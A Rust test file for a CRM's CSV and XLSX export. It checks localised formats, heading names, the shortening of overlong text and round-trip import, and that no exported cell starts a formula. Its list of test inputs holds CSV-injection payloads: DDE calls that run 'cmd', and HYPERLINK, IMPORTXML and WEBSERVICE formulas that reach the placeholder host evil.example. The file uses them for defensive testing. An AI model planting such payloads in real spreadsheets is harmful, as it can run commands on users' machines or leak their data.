//! CSV and XLSX.

use std::collections::BTreeMap;
use std::io::Cursor;
use std::ops::ControlFlow;

use calamine::{Data, Reader, Xlsx};
use kontor_core::Refusal;
use kontor_core::book::{Op, OpKind};
use kontor_core::flows::export::{Format, ItemQuery, List};
use kontor_core::flows::import::general::{self, Known, Policy, UNKNOWN_SYSTEM, What};
use kontor_core::flows::import::{ReadOptions, Table};
use kontor_core::records::addresses::{AddressDraft, AddressKind};
use kontor_core::records::points::PointDraft;
use kontor_core::records::{Draft, Typing, contact, lead, note, opportunity, organization};
use proptest::prelude::*;

use super::{activities, all, bytes, contacts, leads, organizations, text};
use crate::fixture;
use crate::rich::rich;
use crate::support::TestBook;

/// What a spreadsheet could take for a formula, also behind what it trims or reads past.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 30 123456",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "- a list",
    "@SUM(1,1)",
    "@handle",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}SUM(1)",
    "'=1+1",
    "'quoted'",
    "=\"a;b,c\"",
    "a,=1+1",
    "a;=1+1",
    "a\",=1+1,\"",
];

/// Texts of notes: what a line cannot hold.
const BLOCKS: &[&str] = &["=1\n=2", "\t=1+1", "\n=1+1", "\n\n@SUM(1)", "- one\n- two"];

fn rows(csv: &str, delimiter: u8) -> Vec<Vec<String>> {
    let csv = csv.strip_prefix('\u{feff}').unwrap_or(csv);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).delimiter(delimiter).from_reader(csv.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

fn is_formula(cell: &str) -> bool {
    let first = cell.trim_start_matches([' ', '\u{a0}', '\u{3000}']).chars().next();
    first.is_some_and(|first| "=+-@\t\r\n\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(first))
}

fn add_note(book: &TestBook, text: &str) {
    let lead = fixture::lead(book, &fixture::Person { company: "Acme", ..Default::default() });
    let owner = kontor_core::book::RecordRef { kind: kontor_core::book::Kind::Lead, id: lead };
    book.transact(Op::new(OpKind::AddNote, ""), |tx| note::add(tx, &[owner], text)).unwrap();
}

#[test]
fn no_cell_for_people_starts_a_formula_and_taking_one_apostrophe_away_gives_the_text_back() {
    let book = TestBook::new();
    for formula in FORMULAS {
        fixture::lead(&book, &fixture::Person { company: formula, title: formula, ..Default::default() });
    }
    for block in BLOCKS.iter().chain(FORMULAS) {
        add_note(&book, block);
    }
    for (language, delimiter) in [("en", b','), ("de", b';')] {
        for list in [leads(), List::Notes(ItemQuery::default())] {
            let found = rows(&text(&book, &list, Format::Csv, language), delimiter);
            for cell in found.iter().flatten() {
                assert!(!is_formula(cell), "{cell:?}");
            }
            let column = usize::from(matches!(list, List::Leads(_)));
            let mut texts: Vec<String> = found[1..]
                .iter()
                .map(|row| row[column].strip_prefix('\'').unwrap_or(&row[column]).to_owned())
                .collect();
            texts.sort();
            let mut expected: Vec<&str> = if column == 1 { FORMULAS.to_vec() } else { [BLOCKS, FORMULAS].concat() };
            expected.extend((column == 1).then_some(["Acme"; BLOCKS.len() + FORMULAS.len()]).into_iter().flatten());
            expected.sort_unstable();
            assert_eq!(texts, expected, "{language}");
        }
    }
}

#[test]
fn a_workbook_holds_texts_as_texts_whatever_they_look_like() {
    let book = TestBook::new();
    for formula in FORMULAS {
        fixture::lead(&book, &fixture::Person { company: formula, title: formula, ..Default::default() });
    }
    let mut workbook = Xlsx::new(Cursor::new(bytes(&book, &leads(), Format::Xlsx, "en"))).unwrap();
    let formulas = workbook.worksheet_formula("Leads").unwrap();
    assert!(formulas.rows().flatten().all(String::is_empty));
    let sheet = workbook.worksheet_range("Leads").unwrap();
    let mut titles: Vec<String> = sheet.rows().skip(1).map(|row| row[0].to_string()).collect();
    titles.sort();
    let mut expected = FORMULAS.to_vec();
    expected.sort_unstable();
    assert_eq!(titles, expected);
}

fn typed(
    book: &TestBook,
    write: impl FnOnce(&kontor_core::book::Tx, &Typing) -> kontor_core::Result<String>,
) -> String {
    book.transact(Op::new(OpKind::CreateLead, ""), |tx| write(tx, &Typing::of(tx, "en")?)).unwrap().value
}

/// A book with one of each kind, with every sort of value.
fn one_of_each() -> TestBook {
    let book = TestBook::new();
    let made = rich(&book);
    typed(&book, |tx, typing| {
        let fields = [
            (contact::Field::FirstName, "Zoë 👩‍👧"),
            (contact::Field::LastName, "von \"Quote\""),
            (contact::Field::Organization, made.organization.as_str()),
            (contact::Field::Birthday, "1980-12-31"),
            (contact::Field::NoPhone, "yes"),
            (contact::Field::Description, "שלום\nzwei; drei, \"vier\""),
        ];
        let mut draft = Draft::of(fields);
        draft.phones = vec![PointDraft { label: "mobile".into(), ..PointDraft::of("+49 170 1234567") }];
        draft.addresses =
            BTreeMap::from([(AddressKind::Main, AddressDraft { city: "Köln".into(), ..AddressDraft::default() })]);
        contact::create(tx, &draft, typing)
    });
    typed(&book, |tx, typing| {
        let fields = [
            (opportunity::Field::Title, "Two machines"),
            (opportunity::Field::Organization, made.organization.as_str()),
            (opportunity::Field::Amount, "1234567.5"),
            (opportunity::Field::ExpectedClose, "2025-03-09"),
        ];
        opportunity::create(
            tx,
            &opportunity::Draft { fields: fields.map(|(f, t)| (f, t.to_owned())).into(), ..Default::default() },
            typing,
        )
    });
    book
}

/// The cells of the first row in which the first cell is this one, by heading.
fn row<'a>(rows: &'a [Vec<String>], column: &str, value: &str) -> BTreeMap<&'a str, &'a str> {
    let at = rows[0].iter().position(|head| head == column).unwrap();
    let found = rows[1..].iter().find(|row| row[at] == value).unwrap_or_else(|| panic!("no {value}: {rows:?}"));
    rows[0].iter().map(String::as_str).zip(found.iter().map(String::as_str)).collect()
}

#[test]
fn a_reader_finds_words_dates_and_amounts_of_the_language() {
    let book = one_of_each();
    let deals = List::Opportunities(opportunity::Query::default());
    let german = rows(&text(&book, &deals, Format::Csv, "de"), b';');
    let deal = row(&german, "Titel", "Two machines");
    assert_eq!(
        (deal["Betrag"], deal["Währung"], deal["Erwarteter Abschluss"], deal["Stand"], deal["Angelegt am"]),
        ("1234567,50", "EUR", "09.03.2025", "offen", "20.01.2025 12:00")
    );
    let english = rows(&text(&book, &deals, Format::Csv, "en"), b',');
    let deal = row(&english, "Title", "Two machines");
    assert_eq!((deal["Amount"], deal["Expected close"], deal["State"]), ("1234567.50", "2025-03-09", "open"));
    let people = rows(&text(&book, &contacts(), Format::Csv, "de"), b';');
    let zoe = row(&people, "Vorname", "Zoë 👩‍👧");
    assert_eq!((zoe["Geburtstag"], zoe["Keine Anrufe"], zoe["Ort"]), ("31.12.1980", "ja", "Köln"));
    assert_eq!((zoe["Telefon"], zoe["Telefon: Art"]), ("'+49 170 1234567", "mobile"));
    assert_eq!(zoe["Beschreibung"], "שלום\nzwei; drei, \"vier\"");
    let tasks = rows(&text(&book, &activities(), Format::Csv, "de"), b';');
    assert_eq!(row(&tasks, "Betreff", "Step 1")["Bei"], "Acme GmbH");
}

#[test]
fn a_program_finds_the_same_form_in_every_language() {
    let book = one_of_each();
    for list in all() {
        assert_eq!(text(&book, &list, Format::CsvExact, "de"), text(&book, &list, Format::CsvExact, "en"));
    }
    let people = rows(&text(&book, &contacts(), Format::CsvExact, "de"), b',');
    let zoe = row(&people, "firstName", "Zoë 👩‍👧");
    assert_eq!((zoe["birthday"], zoe["noPhone"], zoe["noEmail"]), ("1980-12-31", "1", "0"));
    assert_eq!((zoe["phone"], zoe["phoneLabel"], zoe["organization"]), ("+49 170 1234567", "mobile", "Acme"));
    assert_eq!(zoe["createdAt"], "2025-01-20T12:00:00.000Z");
}

#[test]
fn every_column_has_a_heading_in_both_languages_also_without_rows() {
    for book in [TestBook::new(), one_of_each()] {
        for list in all() {
            for (language, delimiter) in [("en", b','), ("de", b';')] {
                let found = rows(&text(&book, &list, Format::Csv, language), delimiter);
                let mut heads = found[0].clone();
                assert!(heads.len() > 4, "{heads:?}");
                for head in &heads {
                    // A label that nobody wrote would be the name of the column in small letters.
                    assert!(head.chars().next().is_some_and(char::is_uppercase), "{language}: {head}");
                }
                heads.sort();
                heads.dedup();
                assert_eq!(heads.len(), found[0].len(), "{language}: two columns have one name: {:?}", found[0]);
            }
            let names = &rows(&text(&book, &list, Format::CsvExact, "en"), b',')[0];
            let distinct: std::collections::BTreeSet<&String> = names.iter().collect();
            assert_eq!(distinct.len(), names.len(), "{names:?}");
        }
    }
}

#[test]
fn a_workbook_has_dates_as_dates_and_amounts_as_numbers() {
    let book = one_of_each();
    let deals = List::Opportunities(opportunity::Query::default());
    for (language, name, title) in [("en", "Opportunities", "Title"), ("de", "Verkaufschancen", "Titel")] {
        let mut workbook = Xlsx::new(Cursor::new(bytes(&book, &deals, Format::Xlsx, language))).unwrap();
        let sheet = workbook.worksheet_range(name).unwrap();
        let heads: Vec<String> = sheet.rows().next().unwrap().iter().map(ToString::to_string).collect();
        assert_eq!(heads[0], title);
        let at = |en: &str, de: &str| heads.iter().position(|head| head == en || head == de).unwrap();
        let cells = sheet.rows().nth(1).unwrap();
        assert_eq!(cells[0], Data::String("Two machines".into()));
        assert_eq!(cells[at("Amount", "Betrag")], Data::Float(1_234_567.5));
        let Data::DateTime(day) = cells[at("Expected close", "Erwarteter Abschluss")] else { panic!("no date") };
        assert!(day.is_datetime() && (day.as_f64() - 45_725.0).abs() < f64::EPSILON, "{day:?}");
        let Data::DateTime(made) = cells[at("Made on", "Angelegt am")] else { panic!("no moment") };
        assert!((made.as_f64() - 45_677.5).abs() < 1e-9, "{made:?}");
    }
}

#[test]
fn a_text_that_no_workbook_takes_whole_is_shortened_and_said_so() {
    let book = TestBook::new();
    let long = "😀 long ".repeat(6_000);
    add_note(&book, &long);
    add_note(&book, "short");
    let out = super::Out::new();
    let done = super::try_export(&book, &out, &List::Notes(ItemQuery::default()), Format::Xlsx, "en").unwrap();
    assert_eq!((done.rows, done.shortened), (2, 1));
    let mut workbook = Xlsx::new(Cursor::new(std::fs::read(out.path()).unwrap())).unwrap();
    let sheet = workbook.worksheet_range("Notes").unwrap();
    let beginning = sheet.rows().nth(1).unwrap()[0].to_string();
    assert!(beginning.ends_with('…') && long.starts_with(beginning.trim_end_matches('…')));
    assert!(beginning.encode_utf16().count() > 32_700);
}

#[test]
fn more_mails_than_columns_stand_below_each_other() {
    let book = TestBook::new();
    typed(&book, |tx, typing| {
        let mut draft = Draft::of([(lead::Field::Title, "Many")]);
        draft.emails = (0..25).map(|n| PointDraft::of(format!("n{n}@acme.example"))).collect();
        lead::create(tx, &draft, typing)
    });
    let found = rows(&text(&book, &leads(), Format::CsvExact, "en"), b',');
    let many = row(&found, "title", "Many");
    assert_eq!((many["email"], many["email2"]), ("n0@acme.example", "n1@acme.example"));
    assert_eq!(many["email20"].lines().count(), 6);
    assert!(!many.contains_key("email21"));
}

#[test]
fn an_organization_has_both_its_addresses_and_its_parent() {
    let book = TestBook::new();
    let parent = fixture::organization(&book, &fixture::Person { company: "Holding", ..Default::default() });
    typed(&book, |tx, typing| {
        let fields = [(organization::Field::Name, "Acme"), (organization::Field::Parent, parent.as_str())];
        let mut draft = Draft::of(fields);
        let city = |city: &str| AddressDraft { city: city.into(), ..AddressDraft::default() };
        draft.addresses = BTreeMap::from([(AddressKind::Billing, city("Köln")), (AddressKind::Shipping, city("Bonn"))]);
        organization::create(tx, &draft, typing)
    });
    let found = rows(&text(&book, &organizations(), Format::CsvExact, "en"), b',');
    let acme = row(&found, "name", "Acme");
    assert_eq!((acme["billingCity"], acme["shippingCity"]), ("Köln", "Bonn"));
    assert_eq!((acme["parent"], acme["parentId"]), ("Holding", parent.as_str()));
    let found = rows(&text(&book, &organizations(), Format::Csv, "de"), b';');
    assert_eq!(row(&found, "Name", "Acme")["Lieferadresse: Ort"], "Bonn");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn the_form_for_programs_gives_every_text_back_exactly(
        texts in proptest::collection::vec(("[^\\p{Cc}\u{85}\u{2028}\u{2029}]{1,40}|[=+@'\",; א👩‍👧]{1,12}", "[^\0\r]{0,200}"), 1..5),
        minor in any::<i32>(),
    ) {
        let book = TestBook::new();
        let mut expected = Vec::new();
        for (title, description) in &texts {
            let draft = Draft::of([(lead::Field::Title, title.as_str()), (lead::Field::Description, description)]);
            let made = book.transact(Op::new(OpKind::CreateLead, ""), |tx| {
                let id = lead::create(tx, &draft, &Typing::of(tx, "en")?)?;
                tx.conn().execute("UPDATE lead SET expected_amount = ?2 WHERE id = ?1", (&id, minor))?;
                Ok(id)
            });
            if let Ok(made) = made {
                expected.push(book.read(|db| lead::get(db, &made.value)).unwrap());
            }
        }
        let found = rows(&text(&book, &leads(), Format::CsvExact, "en"), b',');
        prop_assert_eq!(found.len(), expected.len() + 1);
        for lead in &expected {
            let cells = row(&found, "id", &lead.id);
            prop_assert_eq!(cells["title"], &lead.title);
            prop_assert_eq!(cells["description"], &lead.description);
            let amount: f64 = cells["expectedAmount"].parse().unwrap();
            prop_assert_eq!((amount * 100.0).round(), f64::from(minor));
        }
    }
}

#[test]
fn leads_exported_for_people_are_imported_as_they_were() {
    for language in ["en", "de"] {
        let book = one_of_each();
        // No field of one line keeps blanks at its ends.
        let formulas = FORMULAS.iter().filter(|formula| formula.trim() == **formula);
        for formula in formulas.clone() {
            fixture::lead(&book, &fixture::Person { company: formula, title: formula, ..Default::default() });
        }
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("leads.csv");
        std::fs::write(&path, text(&book, &leads(), Format::Csv, language)).unwrap();
        let table = Table::open(&path, &ReadOptions::default()).unwrap();
        let copy = TestBook::new();
        // As a list of nobody knows whom, too: the columns say enough.
        let known = Known { what: Some(What::Lead), system: Some(UNKNOWN_SYSTEM) };
        let mut plan = general::guess(&table.shape().columns, &table.sample(200).unwrap(), known);
        plan.policy = Policy::New;
        let refused = |why: &Refusal| panic!("{why}");
        let watch = &mut |_| ControlFlow::Continue(());
        let done = general::run(&copy, &table, &plan, ["Line", "Reason"], &refused, watch).unwrap();
        assert_eq!(done.value.outcome.created as usize, formulas.count() + 1);
        let said = |book: &TestBook| {
            let sql = "SELECT title, company, first_name, last_name, job_title, industry, ifnull(employees, -1),
                              ifnull(expected_amount, -1), currency, trim(description),
                              (SELECT group_concat(value) FROM (SELECT value FROM contact_point WHERE lead_id = lead.id
                               ORDER BY kind, position))
                       FROM lead ORDER BY title, company";
            book.read(|db| {
                let mut statement = db.conn().prepare(sql)?;
                let rows = statement.query_map([], |row| {
                    Ok((0..11).map(|at| format!("{:?}", row.get_ref(at).unwrap())).collect::<Vec<_>>())
                })?;
                Ok(rows.collect::<Result<Vec<_>, _>>()?)
            })
            .unwrap()
        };
        assert_eq!(said(&copy).len(), said(&book).len());
        for (came, was) in said(&copy).iter().zip(said(&book)) {
            assert_eq!(came[..9], was[..9], "{language}");
            assert_eq!(came[10], was[10], "{language}");
        }
    }
}
